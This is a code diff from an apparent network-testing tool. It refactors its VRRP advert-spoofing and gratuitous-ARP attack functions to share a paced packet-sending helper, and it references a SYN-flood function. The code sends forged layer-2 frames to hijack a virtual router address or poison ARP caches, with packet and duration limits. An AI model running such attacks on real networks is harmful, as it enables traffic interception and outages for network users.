@@ -306,13 +306,19 @@ def attack_vrrp(args, report: Report) -> None:
                              "addrlist": list(args.vip), "adv_centiseconds": frame[VRRPv3].adv,
                              "chksum": f"0x{frame[VRRPv3].chksum:04x}", "checksum_ok": vrrp_checksum_ok(frame)}
     budget = min(LIMITS["packets"], int(args.duration / args.advert_int) + 1)
-    sock = l2_socket(args.iface)
+    send_paced(args.iface, wire, budget, args.advert_int, args.duration, report, "adverts")
+
+
+def send_paced(iface: str, wire: bytes, count: int, interval: float, duration: float, report: Report,
+               counter: str) -> None:
+    """Send one frame `count` times every `interval` s, within `duration` s; log each send."""
+    sock = l2_socket(iface)
     announce(report)
     start = time.time()
     try:
-        for i in range(budget):
-            _sleep_until(start + i * args.advert_int)
-            if time.time() - start > args.duration:
+        for i in range(count):
+            _sleep_until(start + i * interval)
+            if time.time() - start > duration:
                 report.data["stopped_by"] = "duration"
                 break
             sock.send(wire)
@@ -321,7 +327,7 @@ def attack_vrrp(args, report: Report) -> None:
             report.data["stopped_by"] = "count"
     finally:
         sock.close()
-        report.data["counts"] = {"adverts": len(report.data["packets"])}
+        report.data["counts"] = {counter: len(report.data["packets"])}
 
 
 def attack_garp(args, report: Report) -> None:
@@ -329,23 +335,7 @@ def attack_garp(args, report: Report) -> None:
     frame = garp_frame(args.vip, mac, args.op)
     report.data["fields"] = {"eth_src": mac, "eth_dst": BROADCAST, "op": args.op, "hwsrc": mac, "psrc": args.vip,
                              "pdst": args.vip, "hwdst": frame[ARP].hwdst}
-    wire = bytes(frame)
-    sock = l2_socket(args.iface)
-    announce(report)
-    start = time.time()
-    try:
-        for i in range(args.count):
-            _sleep_until(start + i * args.interval)
-            if time.time() - start > args.duration:
-                report.data["stopped_by"] = "duration"
-                break
-            sock.send(wire)
-            report.data["packets"].append({"t": time.time()})
-        else:
-            report.data["stopped_by"] = "count"
-    finally:
-        sock.close()
-        report.data["counts"] = {"garps": len(report.data["packets"])}
+    send_paced(args.iface, bytes(frame), args.count, args.interval, args.duration, report, "garps")
 
 
 def attack_synflood(args, report: Report) -> None:
